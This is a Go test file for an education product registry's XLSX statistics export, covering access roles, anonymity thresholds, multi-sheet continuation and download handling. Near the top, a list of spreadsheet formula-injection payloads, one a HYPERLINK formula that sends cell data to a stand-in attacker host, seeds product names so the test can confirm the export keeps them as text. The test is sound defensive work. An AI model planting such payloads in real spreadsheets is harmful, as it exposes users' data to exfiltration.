package http

import (
	"context"
	"fmt"
	"io"
	"math"
	"net"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/edtech-registry/registry/internal/demo"
	"github.com/edtech-registry/registry/internal/registry"
	"github.com/edtech-registry/registry/internal/xlsx"
	"github.com/edtech-registry/registry/internal/xlsx/xlsxtest"
)

const statisticsPath = "/api/v1/exports/statistics.xlsx"

// statsInjections are texts a spreadsheet would run as formulas if they
// became formulas or lost their text format.
var statsInjections = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1",
}

// seedStatistics seeds the first demo products, renamed with injection
// payloads in their names and vendors, with their demo reviews (released
// as if published one by one), and creates one product without reviews.
// It returns every product id.
func (e *env) seedStatistics(t testing.TB, n int) []string {
	t.Helper()
	products := demo.Products()[:n]
	for i, p := range products {
		p.Name = statsInjections[i%len(statsInjections)] + " " + strconv.Itoa(i)
		p.Vendor = statsInjections[(i+1)%len(statsInjections)]
	}
	reviews := demo.Reviews(e.rubric, products, nil, 2026, time.Now())
	if _, err := e.store.Seed(context.Background(), products, reviews); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, p := range products {
		ids = append(ids, p.ID)
	}
	return append(ids, e.createProduct(t, "Quiet Product"))
}

// exportStatistics downloads the statistics export as token and checks
// the download's headers.
func (e *env) exportStatistics(t testing.TB, token string) []byte {
	t.Helper()
	r := e.must(t, 200, request{Method: "GET", Path: statisticsPath, Token: token})
	if ct := r.Header.Get("Content-Type"); ct != xlsx.ContentType {
		t.Errorf("Content-Type = %q", ct)
	}
	want := regexp.MustCompile(`^attachment; filename="statistics-\d{4}-\d{2}-\d{2}\.xlsx"$`)
	if cd := r.Header.Get("Content-Disposition"); !want.MatchString(cd) {
		t.Errorf("Content-Disposition = %q", cd)
	}
	if cc := r.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control = %q, want no-store", cc)
	}
	if cl := r.Header.Get("Content-Length"); cl != strconv.Itoa(len(r.Body)) {
		t.Errorf("Content-Length = %q for %d bytes", cl, len(r.Body))
	}
	return r.Body
}

// statisticsRows returns the rows of every Statistics sheet, headers left
// out, trailing empty cells dropped, keyed "product|version|group" to the
// group's rows in criterion order.
func statisticsRows(t *testing.T, names []string, rows map[string][][]string) map[string][][]string {
	t.Helper()
	out := map[string][][]string{}
	for _, s := range names {
		if s != "Statistics" && !strings.HasPrefix(s, "Statistics ") {
			continue
		}
		if len(rows[s]) == 0 || rows[s][0][0] != "Product" || rows[s][0][18] != "Red-flag hits" {
			t.Fatalf("%s has no header row: %q", s, rows[s][:min(1, len(rows[s]))])
		}
		for _, row := range rows[s][1:] {
			for len(row) > 0 && row[len(row)-1] == "" {
				row = row[:len(row)-1]
			}
			key := row[0] + "|" + row[2] + "|" + row[3] + ":" + row[4]
			out[key] = append(out[key], row)
		}
	}
	return out
}

// sameStatsRow compares a Statistics row with the JSON API's values: the
// mean (column K) as a number to the 15 significant digits a spreadsheet
// keeps, every other cell exactly.
func sameStatsRow(got, want []string) bool {
	if len(got) != len(want) {
		return false
	}
	for i := range want {
		if i == 10 && want[i] != "" {
			g, err1 := strconv.ParseFloat(got[i], 64)
			w, err2 := strconv.ParseFloat(want[i], 64)
			if err1 != nil || err2 != nil || math.Abs(g-w) > 1e-13*math.Max(1, math.Abs(w)) {
				return false
			}
		} else if got[i] != want[i] {
			return false
		}
	}
	return true
}

// groupQueries are the assessment queries of every group, "all" first,
// with the key statisticsRows gives that group.
func groupQueries() (keys, queries []string) {
	keys, queries = []string{"all:all reviewers"}, []string{""}
	for _, k := range registry.GroupKeys() {
		kind, value, _ := strings.Cut(string(k), ":")
		keys = append(keys, string(k))
		queries = append(queries, "&"+kind+"="+value)
	}
	return keys, queries
}

// checkStatistics compares the rows of one product and rubric version with
// the JSON assessment of every group (as a filter) and returns how many
// suppressed and shown rows it saw.
func (e *env) checkStatistics(t testing.TB, stats map[string][][]string, id string, version int) (suppressed, shown int) {
	t.Helper()
	v := strconv.Itoa(version)
	keys, queries := groupQueries()
	for i, k := range keys {
		var a assessmentJSON
		e.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + id + "/assessment?rubricVersion=" + v + queries[i]}).json(t, &a)
		got := stats[id+"|"+v+"|"+k]
		if len(got) != len(a.Criteria) {
			t.Fatalf("%s v%s %s: %d rows, want one per criterion (%d)", id, v, k, len(got), len(a.Criteria))
		}
		for j, c := range a.Criteria {
			row := got[j]
			if row[1] != "default" || row[7] != c.Dimension || row[8] != c.ID {
				t.Fatalf("%s v%s %s row %d is %q, want criterion %s", id, v, k, j, row, c.ID)
			}
			if a.Suppressed {
				suppressed++
				prefix := fmt.Sprintf("suppressed: fewer than %d reviewers", e.store.Threshold())
				if len(row) != 9 || !strings.HasPrefix(row[5], prefix) {
					t.Errorf("%s v%s %s %s: a suppressed group's row is %q, want %q and no numbers", id, v, k, c.ID, row, prefix)
				}
				continue
			}
			shown++
			mean := ""
			if c.Mean != nil {
				mean = strconv.FormatFloat(*c.Mean, 'f', -1, 64)
			}
			want := []string{id, "default", v, row[3], row[4], "shown", strconv.Itoa(a.Reviews), c.Dimension, c.ID,
				strconv.Itoa(c.N), mean}
			for _, d := range c.Distribution {
				want = append(want, strconv.Itoa(d))
			}
			want = append(want, strconv.Itoa(c.Unknown), strconv.Itoa(c.NA), strconv.Itoa(c.RedFlagHits))
			if !sameStatsRow(row, want) {
				t.Errorf("%s v%s %s %s:\n got %q\nwant %q (the JSON assessment)", id, v, k, c.ID, row, want)
			}
		}
	}
	return suppressed, shown
}

// TestStatisticsExport downloads the officer's export of a seeded registry
// and checks it against the JSON API: every product, group and criterion
// has one row whose numbers equal the JSON assessment of that product,
// rubric version and group (filter); suppressed groups say so and carry no
// numbers; the Products sheet lists every product with its text kept as
// text; nothing in the workbook comes from a single review; LibreOffice
// opens it. A reviewer is refused, and so is a request without a token.
func TestStatisticsExport(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := e.seedStatistics(t, 6)
	data := e.exportStatistics(t, e.tokens[registry.RoleOfficer])
	names, rows := xlsxtest.RawSheets(t, data)
	if want := []string{"Statistics", "Products", "Criteria", "About"}; !slices.Equal(names, want) {
		t.Fatalf("sheets = %q, want %q", names, want)
	}
	stats := statisticsRows(t, names, rows)

	keys, _ := groupQueries()
	suppressed, shown := 0, 0
	for _, id := range ids {
		counts, err := e.store.PublishedCounts(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		if len(counts) == 0 {
			for _, k := range keys {
				if len(stats[id+"|1|"+k]) != 0 {
					t.Errorf("%s has no public reviews but has rows for %s", id, k)
				}
			}
			continue
		}
		sup, sh := e.checkStatistics(t, stats, id, 1)
		suppressed, shown = suppressed+sup, shown+sh
	}
	if suppressed == 0 || shown == 0 {
		t.Fatalf("%d suppressed and %d shown rows: the seeded data must give both", suppressed, shown)
	}
	if n := len(rows["Statistics"]) - 1; n != (len(ids)-1)*len(keys)*len(e.rubric.Criteria()) {
		t.Errorf("Statistics has %d rows, want products with reviews × groups × criteria", n)
	}

	// Products: every product, its text as written and kept text.
	products := rows["Products"]
	if len(products) != len(ids)+1 {
		t.Fatalf("Products has %d rows, want %d", len(products)-1, len(ids))
	}
	for _, row := range products[1:] {
		var p productJSON
		e.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + row[0]}).json(t, &p)
		if row[1] != p.Name || row[2] != p.Vendor {
			t.Errorf("Products row of %s reads %q, %q; want %q, %q", row[0], row[1], row[2], p.Name, p.Vendor)
		}
	}
	xlsxtest.TextCells(t, data, "Statistics", "Products", "Criteria", "About")

	// Nothing of a single review: no public entry's id, summary or
	// comment appears anywhere.
	all := fmt.Sprint(rows)
	for _, id := range ids {
		var page struct {
			Items []publicReviewJSON `json:"items"`
		}
		e.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + id + "/reviews?limit=100"}).json(t, &page)
		for _, it := range page.Items {
			texts := []string{it.ID, it.Summary}
			for _, c := range it.Comments {
				texts = append(texts, c.Comment)
			}
			for _, s := range texts {
				if s != "" && strings.Contains(all, s) {
					t.Errorf("the workbook holds %q from review %s", s, it.ID)
				}
			}
		}
	}

	lo := xlsxtest.Convert(t, data, "Statistics", "Products", "Criteria", "About")
	if len(lo["Statistics"]) != len(rows["Statistics"]) || len(lo["Products"]) != len(products) {
		t.Errorf("LibreOffice reads %d Statistics and %d Products rows, want %d and %d",
			len(lo["Statistics"]), len(lo["Products"]), len(rows["Statistics"]), len(products))
	}
	for i, row := range products[1:] {
		if got := lo["Products"][i+1]; got[1] != row[1] || got[2] != row[2] {
			t.Errorf("LibreOffice reads Products row %d as %q, want %q", i+2, got[:3], row[:3])
		}
	}
	for i, row := range rows["Statistics"][1:] {
		if got := lo["Statistics"][i+1]; !slices.Equal(got[:10], row[:10]) {
			t.Fatalf("LibreOffice reads Statistics row %d as %q, want %q", i+2, got[:10], row[:10])
		}
	}
}

// TestStatisticsExportRoles: officers and admins may download; a reviewer
// or a moderator is 403, no token 401.
func TestStatisticsExportRoles(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.createProduct(t, "Lone Product")
	for _, role := range []string{registry.RoleReviewer, registry.RoleModerator} {
		e.must(t, 403, request{Method: "GET", Path: statisticsPath, Token: e.tokens[role]}).problem(t)
	}
	e.must(t, 401, request{Method: "GET", Path: statisticsPath}).problem(t)
	e.must(t, 401, request{Method: "GET", Path: statisticsPath, Token: "edr_unknown"}).problem(t)
	names, rows := xlsxtest.RawSheets(t, e.exportStatistics(t, e.tokens[registry.RoleAdmin]))
	if len(names) != 4 || len(rows["Statistics"]) != 1 || len(rows["Products"]) != 2 {
		t.Errorf("admin's export: sheets %q, %d Statistics and %d Products rows", names, len(rows["Statistics"]), len(rows["Products"]))
	}
}

// TestStatisticsExportBusy: while one export is being made, another
// request is 503 and nothing waits.
func TestStatisticsExportBusy(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.srv.exportSlot.Lock()
	p := e.must(t, 503, request{Method: "GET", Path: statisticsPath, Token: e.tokens[registry.RoleOfficer]}).problem(t)
	e.srv.exportSlot.Unlock()
	if !strings.Contains(p.Detail, "being made") {
		t.Errorf("detail %q", p.Detail)
	}
	e.exportStatistics(t, e.tokens[registry.RoleOfficer])
}

// TestStatisticsExportContinues serves the same store with the rows per
// sheet lowered: the rows continue on Statistics 2, 3…, each with its
// header, in order and all there; the progress hook hears every product.
func TestStatisticsExportContinues(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := e.seedStatistics(t, 3)
	full, fullRows := xlsxtest.RawSheets(t, e.exportStatistics(t, e.tokens[registry.RoleOfficer]))
	if !slices.Equal(full, []string{"Statistics", "Products", "Criteria", "About"}) {
		t.Fatalf("sheets %q", full)
	}
	var heard atomic.Int64
	limit := 700
	srv := New(Config{Store: e.store, Rubrics: e.rubrics, ExportRowsPerSheet: limit,
		ExportProgress: func(n int) { heard.Store(int64(n)) }})
	small := &env{db: e.db, store: e.store, srv: srv, rubric: e.rubric, rubrics: e.rubrics, tokens: e.tokens}
	names, rows := xlsxtest.RawSheets(t, small.exportStatistics(t, e.tokens[registry.RoleOfficer]))
	total := len(fullRows["Statistics"]) - 1
	sheets := (total + limit - 1) / limit
	if sheets < 3 {
		t.Fatalf("%d rows make only %d sheets: seed more", total, sheets)
	}
	want := []string{"Statistics"}
	for i := 2; i <= sheets; i++ {
		want = append(want, "Statistics "+strconv.Itoa(i))
	}
	want = append(want, "Products", "Criteria", "About")
	if !slices.Equal(names, want) {
		t.Fatalf("sheets = %q, want %q", names, want)
	}
	var joined [][]string
	for _, s := range names[:sheets] {
		if !slices.Equal(rows[s][0], fullRows["Statistics"][0]) {
			t.Errorf("%s: header %q", s, rows[s][0])
		}
		if len(rows[s])-1 > limit {
			t.Errorf("%s holds %d rows, over %d", s, len(rows[s])-1, limit)
		}
		joined = append(joined, rows[s][1:]...)
	}
	if len(joined) != total {
		t.Fatalf("%d rows over the sheets, want %d", len(joined), total)
	}
	for i := range joined {
		if !slices.Equal(joined[i], fullRows["Statistics"][i+1]) {
			t.Fatalf("row %d = %q, want %q", i+1, joined[i], fullRows["Statistics"][i+1])
		}
	}
	if got := heard.Load(); got != int64(len(ids)) {
		t.Errorf("progress heard %d products, want %d", got, len(ids))
	}
}

// TestStatisticsExportReleases: a published review that waits for its
// product's next release changes nothing in the export (the differencing
// attack of docs/anonymity.md), and the release changes the rows.
func TestStatisticsExportReleases(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pid := e.createProduct(t, "Released Product")
	k := e.store.Threshold()
	publish := func(seed int) {
		body := e.contextBody("teacher", "primary", "england", seed)
		e.publish(t, e.submit(t, pid, e.reviewerToken(t), body))
	}
	for i := range k {
		publish(i) // released at once while fewer than k are public
	}
	rowsOf := func() [][]string {
		_, rows := xlsxtest.RawSheets(t, e.exportStatistics(t, e.tokens[registry.RoleOfficer]))
		return append(rows["Statistics"], rows["Products"]...)
	}
	before := rowsOf()
	for i := range k - 1 {
		publish(k + i)
		if after := rowsOf(); !slices.EqualFunc(before, after, slices.Equal) {
			t.Fatalf("after %d waiting publication(s) the export changed", i+1)
		}
	}
	publish(2 * k)
	if after := rowsOf(); slices.EqualFunc(before, after, slices.Equal) {
		t.Fatal("the release of k changes left the export as it was")
	}
}

// deadlineConn records the write deadlines set on it.
type deadlineConn struct {
	net.Conn
	set []time.Time
}

func (c *deadlineConn) SetWriteDeadline(t time.Time) error {
	c.set = append(c.set, t)
	return nil
}

// TestDownload: reading a download moves the connection's write deadline
// on (at most once a second), so a long download is bounded by how long
// the client stalls; closing it removes the temporary file.
func TestDownload(t *testing.T) {
	t.Parallel()
	f, err := os.CreateTemp(t.TempDir(), "download-*.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("workbook bytes"); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Seek(0, io.SeekStart); err != nil {
		t.Fatal(err)
	}
	conn := &deadlineConn{}
	d := &download{file: f, conn: conn}
	start := time.Now()
	b := make([]byte, 4)
	for range 3 {
		if _, err := d.Read(b); err != nil {
			t.Fatal(err)
		}
	}
	if len(conn.set) != 1 || conn.set[0].Before(start.Add(downloadIdleTimeout)) {
		t.Errorf("deadlines set: %v; want one, %s from the first read", conn.set, downloadIdleTimeout)
	}
	if rest, err := io.ReadAll(d); err != nil || string(rest) != "es" {
		t.Errorf("the rest reads %q, %v; want %q", rest, err, "es")
	}
	if err := d.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(f.Name()); !os.IsNotExist(err) {
		t.Errorf("the temporary file is still there: %v", err)
	}
}

// TestStatisticsExportVersions: a product with public reviews under two
// rubric versions has rows for each, equal to the JSON assessment of that
// version; one with reviews under one version has rows for it alone.
func TestStatisticsExportVersions(t *testing.T) {
	t.Parallel()
	e := newEnv(t, moderationOff, withThreshold(3), withSecondVersion(t))
	both, one := e.createProduct(t, "Two Versions"), e.createProduct(t, "One Version")
	old := func(role string, seed int) map[string]any {
		body := e.contextBody(role, "primary", "england", seed)
		body["rubricVersion"] = 1
		return body
	}
	for i := range 4 {
		e.submit(t, both, e.reviewerToken(t), old("teacher", i))
		e.submit(t, both, e.reviewerToken(t), e.contextBody("leader", "secondary", "wales", 10+i))
		e.submit(t, one, e.reviewerToken(t), old("teacher", 20+i))
	}
	names, rows := xlsxtest.RawSheets(t, e.exportStatistics(t, e.tokens[registry.RoleOfficer]))
	stats := statisticsRows(t, names, rows)
	suppressed, shown := 0, 0
	for _, c := range []struct {
		id      string
		version int
	}{{both, 1}, {both, 2}, {one, 1}} {
		sup, sh := e.checkStatistics(t, stats, c.id, c.version)
		suppressed, shown = suppressed+sup, shown+sh
	}
	if len(stats[one+"|2|all:all reviewers"]) != 0 {
		t.Errorf("%s has rows for version 2, under which it has no reviews", one)
	}
	if suppressed == 0 || shown == 0 {
		t.Errorf("%d suppressed and %d shown rows: both kinds are needed", suppressed, shown)
	}
	if want := 3 * (1 + len(registry.GroupKeys())) * len(e.rubric.Criteria()); len(rows["Statistics"])-1 != want {
		t.Errorf("%d rows, want %d", len(rows["Statistics"])-1, want)
	}
	// The Products sheet counts each version's public reviews: those of the
	// last release (with threshold 3, the fourth review of a version waits).
	for _, row := range rows["Products"][1:] {
		counts, err := e.store.PublishedCounts(context.Background(), row[0])
		if err != nil {
			t.Fatal(err)
		}
		var parts []string
		total := 0
		for v := 1; v <= 2; v++ {
			if n := counts[registry.VersionKey("default", v)]; n > 0 {
				parts = append(parts, fmt.Sprintf("default v%d: %d", v, n))
				total += n
			}
		}
		want := []string{strconv.Itoa(total), strings.Join(parts, "; ")}
		if len(row) < 13 || !slices.Equal(row[11:13], want) {
			t.Errorf("Products row %q, want public reviews and versions %q", row, want)
		}
	}
}

// TestStatisticsExportHead: HEAD says what a GET would send without
// building the export: it answers even while another export holds the
// one slot (a build would have been refused with 503).
func TestStatisticsExportHead(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.srv.exportSlot.Lock()
	defer e.srv.exportSlot.Unlock()
	r := e.must(t, 200, request{Method: "HEAD", Path: statisticsPath, Token: e.tokens[registry.RoleOfficer]})
	if r.Header.Get("Content-Type") != xlsx.ContentType || !strings.HasPrefix(r.Header.Get("Content-Disposition"), `attachment; filename="statistics-`) || len(r.Body) != 0 {
		t.Errorf("HEAD answered %v with %d bytes", r.Header, len(r.Body))
	}
	e.must(t, 401, request{Method: "HEAD", Path: statisticsPath})
}
